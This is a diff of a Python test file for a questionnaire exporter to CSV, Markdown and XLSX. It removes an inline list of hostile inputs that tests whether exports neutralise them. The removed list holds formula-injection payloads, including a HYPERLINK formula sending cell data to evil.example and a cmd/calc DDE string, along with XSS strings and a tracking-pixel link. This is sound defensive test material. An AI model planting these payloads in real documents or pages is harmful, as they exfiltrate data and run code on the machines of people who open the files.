@@ -11,6 +11,7 @@ import pytest
 from markdown_it import MarkdownIt
 from openpyxl import load_workbook
 
+from tests.fakes.hostile import STORABLE
 from tests.fakes.questionnaires import saying
 from tosrisk.core.inert import inert, one_line
 from tosrisk.questionnaires.to_csv import write_csv
@@ -18,47 +19,8 @@ from tosrisk.questionnaires.to_markdown import write_markdown
 from tosrisk.questionnaires.to_xlsx import write_xlsx
 
 HARMLESS = "Contoso"
-HOSTILE = (
-    '=HYPERLINK("https://evil.example?x="&A1,"terms")',
-    "=cmd|' /C calc'!A0",
-    "+1+cmd|' /C calc'!A0",
-    "-2+3",
-    "@SUM(1+1)",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "  =1+1",
-    '"=1+1',
-    "'=1+1",
-    "\u00a0\u200b=1+1",
-    "＝1+1",
-    '","=1+1","',
-    ";=1+1;",
-    "|calc",
-    "_x003D_1+1",
-    "\x00\x07\x1b[31mred\x9b",
-    "\u202egnp.exe\u2066",
-    "\ufdd0\uffff",
-    "<script>alert(1)</script>",
-    "--><img src=x onerror=alert(1)>",
-    "[terms](javascript:alert(1))",
-    "![x](https://evil.example/pixel.png)",
-    "<https://evil.example>",
-    "[x]: https://evil.example 'reference'",
-    "# A heading of mine",
-    "words\n# A heading of mine\n\n---\n",
-    "words\n===",
-    "| a | b |\n| - | - |\n| c | d |",
-    "```\ncode\n```",
-    "    indented",
-    "- a list",
-    "1. a list",
-    "> a quotation",
-    "**bold** _slanted_ ~~struck~~ `code`",
-    "&lt;script&gt;",
-    "a\u2028b\u2029c",
-    "=" * 40_000,
-)
+HOSTILE = (*STORABLE, "_x003D_1+1", "    indented", "=" * 40_000)
+"""Those of every output, and what workbooks and long cells bring."""
 each_text = pytest.mark.parametrize("words", HOSTILE, ids=lambda words: ascii(words)[:30])
 
 
